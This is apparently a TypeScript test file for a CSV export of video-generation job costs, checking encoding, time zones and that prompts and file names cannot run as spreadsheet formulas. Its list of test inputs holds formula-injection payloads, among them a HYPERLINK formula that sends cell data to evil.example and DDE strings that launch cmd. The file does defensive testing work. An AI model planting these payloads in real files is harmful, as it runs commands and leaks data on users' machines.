import assert from 'node:assert/strict';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { afterEach, describe, it, type TestContext } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { costsCsv } from '../../../../src/engine/jobs/costsCsv.ts';
import type { Job } from '../../../../src/engine/jobs/job.ts';
import { JobStore } from '../../../../src/engine/jobs/store.ts';
import { draftOf, jobOf, unsentJobOf } from '../../../support/engine/fixtures.ts';
import { temporaryFolder } from '../../../support/engine/folder.ts';

const { TZ: zone } = process.env;
describe('the table of costs', () => {
  afterEach(() => {
    if (zone === undefined) delete process.env['TZ'];
    else process.env['TZ'] = zone;
  });

  type Row = Readonly<Record<string, string>>;

  /** As another program reads it. */
  function read(csv: string): Row[] {
    return parse<Row>(csv, { bom: true, columns: true });
  }

  function storeOf(t: TestContext, ...jobs: readonly Job[]): JobStore {
    const store = new JobStore(join(temporaryFolder(t), 'jobs.db'));
    t.after(() => store.close());
    for (const job of jobs) store.insert(job);
    return store;
  }

  function csvOfPrompt(prompt: string): string {
    const job = jobOf({ draft: draftOf({ prompt }) });
    return costsCsv([{ createdAt: 1000, state: 'queued', model: 'seedance-2.0', job }]);
  }

  /** The cells that a spreadsheet finds which takes this for the separator; most of them look at quotes only where a cell begins. */
  function cellsBy(separator: string, csv: string): string[] {
    const relaxed = { bom: true, delimiter: separator, relax_column_count: true, relax_quotes: true };
    return [parse(csv, relaxed), parse(csv, { ...relaxed, quote: false })].flat(2).map(String);
  }

  /** What a spreadsheet would run, however it trims. */
  const runs = /^[\s"]*[=+\-@＝＋－＠]/;

  const hostile = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '  \u00a0=1+1',
    '"=1+1"',
    '=1+1\nsecond line',
    'first line\n=1+1',
    'first line\r\n"=1+1',
    'a;=1+1;b',
    'a; "=1+1";b',
    'a\t=1+1\tb',
    'a|=1+1|b',
    '＝1+1',
    '\u2028=1+1',
    '\0=1+1',
  ];

  describe('the costs as CSV', () => {
    it('have a line for each job, also for one that was removed, and none of the sandbox', (t) => {
      process.env['TZ'] = 'Europe/Berlin';
      const draft = draftOf({ prompt: 'Mist, over the “lake”\nand a boat', duration: 8, aspectRatio: '9:16' });
      const file = process.platform === 'win32' ? 'file:///C:/clips/a%20b.mp4' : 'file:///clips/a%20b.mp4';
      const store = storeOf(
        t,
        jobOf({
          id: 'a',
          draft,
          state: 'succeeded',
          creditsCharged: 64.5,
          createdAt: Date.parse('2026-10-24T23:30:00Z'),
          download: { state: 'done', file, size: 1 },
        }),
        unsentJobOf({ id: 'b', state: 'unknown', createdAt: Date.parse('2026-12-31T23:30:00Z') }),
        jobOf({ id: 'c', service: 'sandbox', creditsCharged: 1000 }),
      );
      store.remove('a', 5000);
      const path = process.platform === 'win32' ? 'C:\\clips\\a b.mp4' : '/clips/a b.mp4';
      assert.deepEqual(read(costsCsv(store.charges.entries())), [
        {
          ...{
            time: '2026-10-25T01:30:00+02:00',
            model: 'seedance-2.0',
            duration: '8',
            aspect: '9:16',
            resolution: '720p',
          },
          ...{
            prompt: 'Mist, over the “lake” and a boat',
            state: 'succeeded',
            credits: '64.5',
            requestId: 'req_1',
            file: path,
          },
        },
        {
          ...{
            time: '2027-01-01T00:30:00+01:00',
            model: 'seedance-2.0',
            duration: '5',
            aspect: '16:9',
            resolution: '720p',
          },
          ...{ prompt: 'Waves at dusk', state: 'unknown', credits: '', requestId: '', file: '' },
        },
      ]);
    });

    it('begin with the mark that tells Excel their encoding, and end each line as RFC 4180 says', () => {
      const csv = csvOfPrompt('Bär 🐻');
      assert.deepEqual([...Buffer.from(csv).subarray(0, 3)], [0xef, 0xbb, 0xbf]);
      assert.equal(csv.replaceAll('\r\n', '').search(/[\r\n]/), -1);
      assert.equal(read(csv)[0]?.['prompt'], 'Bär 🐻');
    });

    it('say times with the zone they are in, also where it is behind or has half hours', () => {
      const entry = { createdAt: Date.parse('2026-01-01T03:00:00Z'), state: 'queued', model: 'm' };
      for (const [place, time] of [
        ['America/St_Johns', '2025-12-31T23:30:00-03:30'],
        ['Asia/Kathmandu', '2026-01-01T08:45:00+05:45'],
        ['UTC', '2026-01-01T03:00:00+00:00'],
      ]) {
        process.env['TZ'] = place;
        const [row] = read(costsCsv([entry]));
        assert.equal(row?.['time'], time);
        assert.equal(Date.parse(time ?? ''), entry.createdAt);
      }
      assert.equal(read(costsCsv([{ ...entry, createdAt: 9e15 }]))[0]?.['time'], '');
    });

    it('hold nothing that a spreadsheet runs, whatever it takes for the end of a cell', () => {
      for (const prompt of hostile) {
        const csv = csvOfPrompt(prompt);
        assert.equal(csv.split('\r\n').length, 3, 'one line');
        for (const separator of [',', ';', '\t', '|'])
          assert.deepEqual(
            cellsBy(separator, csv).filter((cell) => runs.test(cell)),
            [],
            JSON.stringify([prompt, separator]),
          );
      }
    });

    it('name the file as it is called, also where a spreadsheet could take a part of its path for a formula', () => {
      const top = process.platform === 'win32' ? 'C:\\clips\\' : '/clips/';
      for (const name of ['a;=1+1;b.mp4', 'a; @b.mp4', "it's - fine.mp4", 'ü;＝1+1.mp4', 'a;b=c.mp4']) {
        const file = pathToFileURL(top + name).href;
        const job = jobOf({ state: 'succeeded', download: { state: 'done', file, size: 1 } });
        const csv = costsCsv([{ createdAt: 1000, state: 'succeeded', model: 'm', job }]);
        const told = read(csv)[0]?.['file'] ?? '';
        assert.equal(told.startsWith('file:') ? fileURLToPath(told) : told, top + name);
        for (const separator of [',', ';', '\t', '|'])
          assert.deepEqual(
            cellsBy(separator, csv).filter((cell) => runs.test(cell)),
            [],
            JSON.stringify([name, separator]),
          );
      }
    });

    it('are read back by another program as they were written, whatever the words are', () => {
      const words = fc.array(
        fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...hostile, ',', ';', '"', '""', "'", '\n')),
      );
      fc.assert(
        fc.property(words, (parts) => {
          const prompt = parts.join('');
          const rows = read(csvOfPrompt(prompt));
          assert.equal(rows.length, 1);
          assert.equal(rows[0]?.['state'], 'queued');
          const kept = (text: string): string =>
            text
              .toWellFormed()
              .replace(/[\p{Cc}\p{Zl}\p{Zp}']+/gu, ' ')
              .replaceAll(' ', '');
          assert.equal(kept(rows[0]['prompt'] ?? ''), kept(prompt));
        }),
        { numRuns: 500 },
      );
    });
  });
});
